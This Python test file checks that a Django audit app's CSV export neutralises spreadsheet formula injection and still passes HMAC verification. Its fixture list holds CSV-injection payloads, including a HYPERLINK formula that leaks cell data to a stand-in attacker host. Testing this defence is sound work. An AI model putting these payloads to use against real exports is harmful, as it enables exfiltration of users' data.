"""The audit CSV export is safe to open in a spreadsheet: a cell that would be evaluated as a formula
(`= + - @`, tab, CR first) is written with a leading apostrophe, and the offline verifier, which removes
exactly that apostrophe before hashing, still verifies the export."""
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from governance.audit import csv_cells, recorder
from governance.audit.models import AuditEntry

pytestmark = pytest.mark.django_db
REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak"&B2,"click")',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "'already quoted", "''two quotes", "plain", "",
]


def _event(namespace):
    return {
        "eventType": "COMPLETE", "eventTime": "2026-11-27T07:31:29.123456+00:00",
        "run": {"runId": "3f1c8a4e-0000-4000-8000-000000000001"},
        "job": {"namespace": namespace, "name": "train"},
        "producer": "https://example.com/producer", "schemaURL": "https://openlineage.io/spec/1-0-5/OpenLineage.json",
        "inputs": [], "outputs": [],
    }


def test_every_csv_cell_is_neutralised_and_the_export_still_verifies(clients, settings, tmp_path):
    settings.AUDIT_CHECKPOINT_EVERY = 3
    ingested = clients["engineer"].post("/api/v1/lineage", _event('=HYPERLINK("http://attacker.example/?leak'), format="json")
    assert ingested.status_code in (200, 201), ingested.content
    for n, value in enumerate(HOSTILE):
        recorder.record("thing.withdraw", "thing", value or n, after={"why": value}, reason=value)
    response = clients["auditor"].get("/api/audit/export/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c.startswith(csv_cells.FORMULA_STARTS)]
    assert dangerous == [], [r for r in rows if any(c in dangerous for c in r)]
    reasons = [row[rows[0].index("reason")] for row in rows[1:] if row[0] == "entry"]
    for value in HOSTILE:
        expected = ("'" + value) if value.startswith((*csv_cells.FORMULA_STARTS, "'")) else value
        assert expected in reasons, value
    # The stored values come back exactly.
    stored = list(AuditEntry.objects.filter(action="thing.withdraw").order_by("seq").values_list("reason", flat=True))
    assert stored == HOSTILE
    assert [csv_cells.restore(csv_cells.neutralise(v)) for v in HOSTILE] == HOSTILE
    # The namespace the engineer sent is somewhere in the ingest's audit entry, neutralised where it starts a cell.
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8", newline="")
    env = {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(REPO)}
    done = subprocess.run([sys.executable, "-S", "-m", "governance.audit.offline_verify", str(path),
                           "--hmac-key", settings.AUDIT_HMAC_KEY], capture_output=True, text=True, cwd=tmp_path,
                          env=env, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "OK: verified" in done.stdout
    # Editing a neutralised cell's value is still caught.
    tampered = tmp_path / "tampered.csv"
    tampered.write_text(text.replace("'@SUM(A1:A9)", "'@SUM(A1:A8)"), encoding="utf-8", newline="")
    bad = subprocess.run([sys.executable, "-S", "-m", "governance.audit.offline_verify", str(tampered),
                          "--hmac-key", settings.AUDIT_HMAC_KEY], capture_output=True, text=True, cwd=tmp_path,
                         env=env, timeout=120)
    assert bad.returncode == 1, bad.stdout + bad.stderr
